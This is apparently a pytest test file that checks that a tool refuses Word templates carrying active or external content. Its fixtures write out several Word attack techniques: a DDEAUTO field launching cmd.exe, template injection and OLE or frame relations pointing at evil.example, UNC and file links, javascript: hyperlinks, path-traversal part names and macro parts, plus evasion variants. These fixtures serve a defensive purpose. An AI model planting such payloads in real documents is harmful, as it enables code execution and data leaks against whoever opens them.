"""Nothing active and nothing external comes into a template, nor out of it into a paper."""

import io
import zipfile

import docx
import pytest
from tests.documents.papers.word.test_owner import NOTICE, changed, prepared, refusal, template

from zhiping.documents.papers.word import owner, passive
from zhiping.domain.errors import Invalid, Problem
from zhiping.texts.catalogue import LANGUAGES, problem_text, speaking

DOCUMENT, RELATIONS = "word/document.xml", "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def in_body(xml):
    """Put XML at the end of the document's last paragraph."""
    return lambda p: {
        **p,
        DOCUMENT: p[DOCUMENT].replace(b"</w:p><w:sectPr", xml.encode() + b"</w:p><w:sectPr"),
    }


def related(kind, target, mode="External", part=RELATIONS):
    row = f'<Relationship Id="rId99" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'.encode()
    return lambda p: {**p, part: p[part].replace(b"</Relationships>", row + b"</Relationships>")}


def added(name, data=b"x"):
    return lambda p: {**p, name: data}


def typed(kind):
    row = f'<Override PartName="/word/document.xml" ContentType="{kind}"/>'.encode()
    return lambda p: {
        **p,
        "[Content_Types].xml": p["[Content_Types].xml"].replace(b"</Types>", row + b"</Types>"),
    }


def field(*runs):
    """A field whose words are cut into runs."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end"))
    return begin + "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs) + end


def settings(xml):
    return lambda p: {
        **p,
        "word/settings.xml": p["word/settings.xml"].replace(b"</w:settings>", xml + b"</w:settings>"),
        "word/_rels/settings.xml.rels": (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="%s/attachedTemplate" Target="http://evil.example/t.dotm" '
            b'TargetMode="External"/></Relationships>' % OFFICE.encode()
        ),
    }


STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
MIXED = "http://schemas.openxmlformats.org/markup-compatibility/2006"
ALTERNATIVE = (
    f'<mc:AlternateContent xmlns:mc="{MIXED}"><mc:Choice Requires="none">'
    "<w:r><w:instrText>PAGE </w:instrText></w:r></mc:Choice><mc:Fallback/></mc:AlternateContent>"
)


def strict(parts):
    """The document in the strict edition of the format."""
    main = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return {**parts, DOCUMENT: parts[DOCUMENT].replace(main, STRICT.encode())}


ACTIVE = {
    "attached template": (settings(b'<w:attachedTemplate r:id="rId1"/>'), "relation", "attachedTemplate"),
    "attached template without relation": (
        lambda p: {**settings(b"<w:attachedTemplate/>")(p), "word/_rels/settings.xml.rels": b"<R/>"},
        "element",
        "attachedTemplate",
    ),
    "DDEAUTO": (in_body(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "field", "DDEAUTO"),
    "DDE in runs": (in_body(field(" DD", "E exc", "el")), "field", "DDE excel"),
    "lower case": (in_body(field("ddeauto x")), "field", "ddeauto"),
    "simple field": (in_body('<w:fldSimple w:instr=" DDE x "/>'), "field", "DDE x"),
    "deleted field": (
        in_body(field("PAGE").replace("instrText>", "delInstrText>").replace("PAGE", "DDE x")),
        "field",
        "DDE x",
    ),
    "field without an end": (
        in_body("<w:r><w:instrText>INCLUDETEXT x</w:instrText></w:r>"),
        "field",
        "INCLUDETEXT",
    ),
    "nested": (
        in_body(
            field("PAGE").replace("</w:instrText></w:r>", "</w:instrText></w:r>" + field("INCLUDEPICTURE x"))
        ),
        "field",
        "INCLUDEPICTURE",
    ),
    "made by a field": (
        in_body(field("PAGE").replace("<w:r><w:instrText>PAGE</w:instrText></w:r>", field("REF x"))),
        "field",
        "",
    ),
    "strict edition": (
        lambda p: strict(in_body(field("PAGE") + field("DDEAUTO x"))(p)),
        "field",
        "DDEAUTO x",
    ),
    "strict elements alone": (
        in_body(f'<w:p xmlns:w="{STRICT}">{field("PAGE")}{field("DDEAUTO x")}</w:p>'),
        "element",
        "fldChar",
    ),
    "words of another maker before": (
        in_body(
            field("DDEAUTO x").replace(
                "<w:instrText>", '<x:instrText xmlns:x="x">PAGE </x:instrText><w:instrText>'
            )
        ),
        "element",
        "instrText",
    ),
    "kind of another maker": (
        in_body(
            field("PAGE")
            + field("DDEAUTO x").replace("w:fldCharType", 'xmlns:x="x" x:fldCharType="end" w:fldCharType')
        ),
        "field",
        "DDEAUTO x",
    ),
    "alternative before": (
        in_body(field("DDEAUTO x").replace("<w:r><w:instrText>", f"{ALTERNATIVE}<w:r><w:instrText>", 1)),
        "field",
        "DDEAUTO x",
    ),
    "IMPORT": (in_body(field("IMPORT x")), "field", "IMPORT x"),
    "DATABASE": (in_body(field('DATABASE \\\\d "x"')), "field", "DATABASE"),
    "MACROBUTTON": (in_body(field("MACROBUTTON x y")), "field", "MACROBUTTON"),
    "link to a file": (in_body(field('HYPERLINK "file:///c:/x"')), "field", "HYPERLINK"),
    "link to a share": (in_body(field('HYPERLINK "\\\\host\\x"')), "field", "HYPERLINK"),
    "link to nowhere": (in_body(field("HYPERLINK x.exe")), "field", "HYPERLINK"),
    "macros": (added("word/vbaProject.bin"), "part", "word/vbaProject.bin"),
    "macros under another name": (added("word/project.bin"), "part", "word/project.bin"),
    "macros by relation": (
        lambda p: related(
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "media/a.png", "Internal"
        )({**p, "word/media/a.png": b"x"}),
        "relation",
        "vbaProject",
    ),
    "object": (added("word/embeddings/oleObject1.bin"), "part", "oleObject1.bin"),
    "object by relation": (related(f"{OFFICE}/oleObject", "http://evil.example/x"), "relation", "oleObject"),
    "object element": (in_body("<w:object/>"), "element", "object"),
    "control": (in_body('<w:control w:name="x"/>'), "element", "control"),
    "chunk": (in_body("<w:altChunk/>"), "element", "altChunk"),
    "chunk by relation": (related(f"{OFFICE}/aFChunk", "a.html"), "relation", "aFChunk"),
    "frame": (related(f"{OFFICE}/frame", "http://evil.example/x"), "relation", "frame"),
    "sub-document": (related(f"{OFFICE}/subDocument", "x.docx"), "relation", "subDocument"),
    "mail merge": (settings(b"<w:mailMerge/>"), "element", "mailMerge"),
    "picture from outside": (
        related(f"{OFFICE}/image", "http://evil.example/x.png"),
        "external",
        "http://evil.example/x.png",
    ),
    "picture from a share": (related(f"{OFFICE}/image", "\\\\host\\x.png"), "external", "\\\\host\\x.png"),
    "picture of an old drawing": (
        in_body('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/x.png"/>'),
        "external",
        "http://evil.example/x.png",
    ),
    "hyperlink to a file": (related(f"{OFFICE}/hyperlink", "file:///c:/x"), "external", "file:///c:/x"),
    "hyperlink to a script": (
        related(f"{OFFICE}/hyperlink", "javascript:alert(1)"),
        "external",
        "javascript",
    ),
    "target above": (related(f"{OFFICE}/image", "../../evil.txt", "Internal"), "external", "../../evil.txt"),
    "target missing": (
        related(f"{OFFICE}/image", "media/none.png", "Internal"),
        "external",
        "media/none.png",
    ),
    "unknown maker": (
        related("http://evil.example/relationships/image", "media/none.png", "Internal"),
        "relation",
        "evil",
    ),
    "name above": (added("../../evil.txt"), "part", "../../evil.txt"),
    "name above within": (added("word/media/../../../evil.png"), "part", "word/media/../../../evil.png"),
    "absolute name": (added("/word/media/a.png"), "part", "/word/media/a.png"),
    "Windows name": (added("word\\media\\a.png"), "part", "word\\media\\a.png"),
    "SVG": (added("word/media/a.svg"), "part", "word/media/a.svg"),
    "metafile": (added("word/media/a.emf"), "part", "word/media/a.emf"),
    "HTML": (added("word/a.html"), "part", "word/a.html"),
    "font": (added("word/fonts/font1.odttf"), "part", "word/fonts/font1.odttf"),
    "interface": (added("customUI/customUI.xml", b"<a/>"), "part", "customUI/customUI.xml"),
    "signature": (added("_xmlsignatures/origin.sigs"), "part", "_xmlsignatures/origin.sigs"),
    "macro type": (
        typed("application/vnd.ms-word.document.macroEnabled.main+xml"),
        "content_type",
        "macroEnabled",
    ),
    "video": (in_body('<wp15:webVideoPr xmlns:wp15="http://x" embeddedHtml="x"/>'), "element", "webVideoPr"),
}


@pytest.mark.parametrize("name", ACTIVE)
def test_active_or_external_content_is_refused_by_its_place(tmp_path, name):
    edit, code, found = ACTIVE[name]
    folder = template(tmp_path / "t", "{{ platform.name }}")
    changed(folder / NOTICE, edit)
    with pytest.raises(Invalid) as caught:
        owner.read_template(folder / NOTICE)
    problems = [p for p in caught.value.problems if p.code == f"papers.{code}" and found in p.data["found"]]
    assert problems
    for language in LANGUAGES:
        with speaking(language):
            assert all(problem_text(problem) for problem in problems)
    assert {p.where[0] for p in problems} == {NOTICE}


def test_without_the_list_active_content_would_come_in(tmp_path, monkeypatch):
    """The control: nothing else refuses what the list names."""
    monkeypatch.setattr(passive, "strays", lambda _: iter(()))
    for name, (edit, _, _) in ACTIVE.items():
        folder = template(tmp_path / name, "{{ platform.name }}")
        changed(folder / NOTICE, edit)
        assert owner.read_template(folder / NOTICE), name


def test_two_parts_of_one_name_are_refused(tmp_path):
    folder = template(tmp_path / "t", "{{ platform.name }}")
    with zipfile.ZipFile(folder / NOTICE, "a") as package:
        package.writestr("WORD/document.xml", b"<a/>")
    assert refusal(tmp_path, folder) == (Problem("papers.not_word", {"found": "zip"}, (NOTICE,)),)


def test_fields_links_and_pictures_people_use_are_let_in(tmp_path):
    folder = template(tmp_path / "t", "{{ platform.name }}")
    fields = (
        "PAGE", " NUMPAGES \\* MERGEFORMAT", 'TOC \\o "1-3" \\h', "=SUM(ABOVE)",
        'DATE \\@ "yyyy年M月d日"', 'HYPERLINK "https://qi.example.org/a?b=c"', "HYPERLINK \\l _Toc1",
        'HYPERLINK "mailto:a@b.cn"',
    )  # fmt: skip
    changed(folder / NOTICE, in_body("".join(map(field, fields))))
    changed(folder / NOTICE, related(f"{OFFICE}/hyperlink", "https://qi.example.org"))
    changed(
        folder / NOTICE,
        lambda p: related(f"{OFFICE}/image", "/word/media/章.jpeg", "Internal")(
            {**p, "word/media/章.jpeg": b"x"}
        ),
    )
    assert prepared(tmp_path, folder)


def test_words_of_a_fact_become_no_instruction(tmp_path):
    """A template may put a fact where Word reads a field: the paper is looked at again."""
    folder = template(tmp_path / "t", "x")
    changed(folder / NOTICE, in_body(field("HYPERLINK ", "{{ url }}")))
    changed(
        folder / NOTICE,
        lambda p: {**p, DOCUMENT: p[DOCUMENT].replace(b"HYPERLINK ", b"HYPERLINK https://a.cn ")},
    )
    fine = owner.fill_template(folder / NOTICE, {"url": "https://qi.example.org"}, {})
    assert b"https://qi.example.org" in fine[DOCUMENT]
    with pytest.raises(Invalid) as caught:
        owner.fill_template(folder / NOTICE, {"url": "file:///c:/evil"}, {})
    (problem,) = caught.value.problems
    assert (problem.code, problem.where) == ("papers.field", (NOTICE, DOCUMENT))


def test_document_of_word_itself_is_let_in():
    held = io.BytesIO()
    docx.Document().save(held)
    with zipfile.ZipFile(held) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    assert list(passive.strays(parts)) == []
